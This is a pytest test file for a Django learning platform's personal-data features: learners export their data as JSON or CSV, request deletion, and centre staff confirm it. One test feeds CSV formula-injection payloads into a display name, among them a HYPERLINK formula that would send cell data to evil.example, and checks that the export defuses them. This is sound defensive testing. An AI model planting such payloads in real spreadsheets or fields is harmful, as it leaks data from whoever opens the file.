"""PDPA: a learner downloads everything stored about them and asks for deletion; staff of their centre confirm."""

import csv
import io
import json

import pytest
from django.urls import reverse

from learners.models import DeletionRequest, Membership, User
from learners.privacy import export_user_data, request_deletion
from lessons import services
from lessons.models import AnonymousProgress, Enrolment, LessonProgress
from tests.factories import CentreFactory, MembershipFactory, UserFactory, make_course_with_lessons


@pytest.fixture
def world(site):
    home, other = CentreFactory(), CentreFactory()
    staff = UserFactory(username="staff_home", home_centre=home)
    MembershipFactory(user=staff, centre=home, role=Membership.Role.STAFF)
    other_staff = UserFactory(username="staff_other", home_centre=other)
    MembershipFactory(user=other_staff, centre=other, role=Membership.Role.STAFF)
    learner = UserFactory(username="malee", display_name="มาลี ใจดี", mobile="0812223333", home_centre=home)
    MembershipFactory(user=learner, centre=home)
    other_learner = UserFactory(username="somchai", display_name="สมชาย อื่น", home_centre=home)
    course, lessons = make_course_with_lessons(site["catalog"], slug="privacy-course", lessons=3)
    services.mark_done(learner, lessons[0])
    services.mark_done(learner, lessons[1])
    services.start_lesson(other_learner, lessons[0])
    return {
        "home": home,
        "staff": staff,
        "other_staff": other_staff,
        "learner": learner,
        "other_learner": other_learner,
        "course": course,
        "lessons": lessons,
        "admin": User.objects.create_superuser("root", password="root-root-root"),
    }


def test_export_has_every_row_about_the_user_and_nothing_about_others(world):
    data = export_user_data(world["learner"])
    assert data["user"]["display_name"] == "มาลี ใจดี" and data["user"]["mobile"] == "0812223333"
    assert "password" not in data["user"]
    assert len(data["lessons.lessonprogress"]) == 2
    assert all(row["user_id"] == world["learner"].pk for row in data["lessons.lessonprogress"])
    assert data["lessons.enrolment"][0]["course_id"] == world["course"].pk
    assert data["learners.membership"][0]["centre_id"] == world["home"].pk
    assert "สมชาย" not in json.dumps(data, ensure_ascii=False)


@pytest.mark.parametrize("name", ["learners:my_data", "learners:my_data_json", "learners:my_data_csv"])
def test_anonymous_visitors_are_sent_to_sign_in(client, world, name):
    response = client.get(reverse(name))
    assert response.status_code == 302 and reverse("learners:login") in response["Location"]


def test_learner_downloads_own_data_as_json_and_csv(client, world):
    client.force_login(world["learner"])
    page = client.get(reverse("learners:my_data"))
    assert page.status_code == 200 and "ความก้าวหน้าของบทเรียน" in page.content.decode()
    assert "lessons.lessonprogress" not in page.content.decode()  # names for people, not table ids
    as_json = client.get(reverse("learners:my_data_json"))
    assert as_json["Content-Disposition"].startswith("attachment") and "no-store" in as_json["Cache-Control"]
    data = json.loads(as_json.content)
    assert data["user"]["username"] == "malee" and len(data["lessons.lessonprogress"]) == 2
    as_csv = client.get(reverse("learners:my_data_csv"))
    text = as_csv.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["table", "row", "field", "value"]
    assert ["user", "1", "display_name", "มาลี ใจดี"] in rows
    assert sum(1 for r in rows if r[0] == "lessons.lessonprogress" and r[2] == "completed_at") == 2
    assert not any("somchai" in cell for row in rows for cell in row)


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_my_data_csv_writes_no_live_formula(client, world, name):
    learner = world["learner"]
    learner.display_name = name
    learner.save()
    client.force_login(learner)
    text = client.get(reverse("learners:my_data_csv")).content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert ["user", "1", "display_name", "'" + name] in rows
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_deletion_request_is_one_row_however_often_it_is_asked_and_can_be_withdrawn(client, world):
    client.force_login(world["learner"])
    for _ in range(2):
        assert client.post(reverse("learners:request_deletion")).status_code == 302
    assert DeletionRequest.objects.filter(user=world["learner"]).count() == 1
    assert client.get(reverse("learners:request_deletion")).status_code == 405
    client.post(reverse("learners:cancel_deletion"))
    assert not DeletionRequest.objects.exists()


def confirm_url(deletion):
    return reverse("learners:staff_confirm_deletion", kwargs={"request_id": deletion.pk})


@pytest.mark.parametrize(
    ("who", "expected"),
    [(None, 302), ("learner", 403), ("other_learner", 403), ("other_staff", 404)],
)
def test_only_staff_of_the_learners_centre_can_confirm_a_deletion(client, world, who, expected):
    deletion = request_deletion(world["learner"])
    if who:
        client.force_login(world[who])
    assert client.get(confirm_url(deletion)).status_code == expected
    assert client.post(confirm_url(deletion)).status_code == expected
    assert User.objects.filter(pk=world["learner"].pk).exists()
    assert not AnonymousProgress.objects.exists()


@pytest.mark.parametrize("who", ["staff", "admin"])
def test_confirmed_deletion_removes_the_account_and_keeps_anonymous_statistics(client, world, who):
    learner = world["learner"]
    deletion = request_deletion(learner)
    client.force_login(world[who])
    staff_page = client.get(reverse("learners:staff_home")).content.decode()
    assert confirm_url(deletion) in staff_page
    assert "มาลี ใจดี" in client.get(confirm_url(deletion)).content.decode()
    response = client.post(confirm_url(deletion))
    assert response.status_code == 302
    assert not User.objects.filter(pk=learner.pk).exists()
    assert not Enrolment.objects.filter(user_id=learner.pk).exists()
    assert not LessonProgress.objects.filter(user_id=learner.pk).exists()
    assert not Membership.objects.filter(user_id=learner.pk).exists()
    stats = AnonymousProgress.objects.get()
    assert (stats.course_id, stats.centre_id, stats.lessons_completed, stats.completed) == (
        world["course"].pk,
        world["home"].pk,
        2,
        False,
    )
    assert stats.month.day == 1
    deletion.refresh_from_db()
    assert deletion.user_id is None and deletion.confirmed_by == world[who] and deletion.confirmed_at is not None
    assert LessonProgress.objects.filter(user=world["other_learner"]).count() == 1
    again = client.post(confirm_url(deletion))
    assert again.status_code == 302 and AnonymousProgress.objects.count() == 1


@pytest.mark.parametrize("name", ["learners:request_deletion", "learners:cancel_deletion"])
def test_anonymous_visitors_cannot_ask_for_or_withdraw_a_deletion(client, world, name):
    response = client.post(reverse(name))
    assert response.status_code == 302 and reverse("learners:login") in response["Location"]
    assert not DeletionRequest.objects.exists()


def test_a_learner_withdraws_only_their_own_request(client, world):
    mine = request_deletion(world["learner"])
    client.force_login(world["other_learner"])
    client.post(reverse("learners:cancel_deletion"))
    assert DeletionRequest.objects.filter(pk=mine.pk).exists()


def test_export_includes_rows_the_user_owns_one_level_down(world):
    from quizzes.models import Answer, QuizAttempt
    from tests.factories import make_quiz

    quiz = make_quiz(world["course"], count=1)
    attempt = QuizAttempt.objects.create(user=world["learner"], quiz=quiz)
    Answer.objects.create(attempt=attempt, question_key="q1", chosen=["q1-a"], correct=True)
    other = QuizAttempt.objects.create(user=world["other_learner"], quiz=quiz)
    Answer.objects.create(attempt=other, question_key="q1", chosen=["q1-b"], correct=False)
    data = export_user_data(world["learner"])
    assert [row["id"] for row in data["quizzes.quizattempt"]] == [attempt.pk]
    assert [row["attempt_id"] for row in data["quizzes.answer"]] == [attempt.pk]
    assert data["quizzes.answer"][0]["chosen"] == ["q1-a"]
